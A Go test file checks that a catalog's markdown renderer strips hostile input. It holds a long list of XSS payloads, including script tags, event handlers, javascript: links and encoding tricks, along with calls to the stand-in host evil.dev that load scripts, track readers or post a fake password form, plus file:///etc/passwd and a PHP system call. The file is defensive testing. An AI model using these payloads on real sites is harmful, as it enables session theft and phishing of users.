package catalog_test

import (
	"regexp"
	"strings"
	"testing"

	"souk/models/catalog"
)

// hostileMarkdown are descriptions that try to bring more than text into a page.
var hostileMarkdown = []string{
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.dev/x.js></sCrIpT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"![x](https://evil.dev/track.png)",
	"![x](data:image/svg+xml;base64,PHN2Zz4=)",
	"![x][y]\n\n[y]: https://evil.dev/track.png",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<iframe src=https://evil.dev></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data=x.swf></object><embed src=x.swf>",
	"<video src=x onerror=alert(1)></video><audio src=x></audio>",
	"<form action=https://evil.dev><input name=password><button>Sign in</button></form>",
	"<base href=https://evil.dev/>",
	"<meta http-equiv=refresh content='0;url=https://evil.dev'>",
	"<link rel=stylesheet href=https://evil.dev/x.css>",
	"<style>body{background:url(https://evil.dev)}</style>",
	"<p style=\"position:fixed;inset:0\">over everything</p>",
	"<div class=\"flash\" id=\"main\">posing as the page</div>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"&#106;avascript:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\" javascript:alert(1)\">x</a>",
	"<a onclick=alert(1) href=https://acme.dev>x</a>",
	"<a href=https://acme.dev target=_blank ping=https://evil.dev>x</a>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java&#x73;cript:alert(1))",
	"[x](<javascript:alert(1)>)",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](vbscript:msgbox(1))",
	"[x](file:///etc/passwd)",
	"[x](https://acme.dev \"onmouseover=alert(1)\")",
	"[x](https://acme.dev/\"onmouseover=\"alert(1))",
	"[x]: javascript:alert(1)\n\n[x]",
	"<javascript:alert(1)>",
	"<data:text/html;base64,PHNjcmlwdD4=>",
	"`<img src=x onerror=alert(1)>`",
	"```html\n<script>alert(1)</script>\n```",
	"``` \" onmouseover=alert(1)\nx\n```",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	"> <script>alert(1)</script>",
	"- <img src=x onerror=alert(1)>",
	"# <img src=x onerror=alert(1)>",
	"<!-- --><script>alert(1)</script><!-- -->",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php system('id') ?>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<template><script>alert(1)</script></template>",
	"<details open ontoggle=alert(1)>x</details>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<textarea autofocus onfocus=alert(1)>",
	"\x00<script>alert(1)</script>",
	"<img src=x onerror\n=alert(1)>",
	"<p/onclick=alert(1)>x",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	strings.Repeat("[", 5000),
	strings.Repeat("> ", 5000) + "x",
	strings.Repeat("*_", 5000),
	strings.Repeat("![", 5000),
	strings.Repeat("- ", 3000) + "x",
}

var (
	tag        = regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9]*)((?:[^>"]|"[^"]*")*)>`)
	attribute  = regexp.MustCompile(`([a-zA-Z-]+)(?:="([^"]*)")?`)
	harmless   = regexp.MustCompile(`^(p|br|hr|h[3-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a)$`)
	goodTarget = regexp.MustCompile(`^(https?://|mailto:)`)
)

func TestHostileMarkdownIsOnlyText(t *testing.T) {
	t.Parallel()
	for _, text := range hostileMarkdown {
		html, err := catalog.RenderMarkdown(text)
		if err != nil {
			t.Errorf("%.60q: %v", text, err)
			continue
		}
		rest := tag.ReplaceAllStringFunc(html, func(found string) string {
			m := tag.FindStringSubmatch(found)
			if !harmless.MatchString(m[2]) {
				t.Errorf("%.60q keeps <%s>: %.200s", text, m[2], html)
			}
			for _, a := range attribute.FindAllStringSubmatch(m[3], -1) {
				if m[2] != "a" || a[1] != "href" && a[1] != "rel" || a[1] == "href" && !goodTarget.MatchString(a[2]) {
					t.Errorf("%.60q keeps %s=%q on <%s>", text, a[1], a[2], m[2])
				}
			}
			return ""
		})
		if strings.ContainsAny(rest, "<>") {
			t.Errorf("%.60q leaves %.200q", text, rest)
		}
	}
}
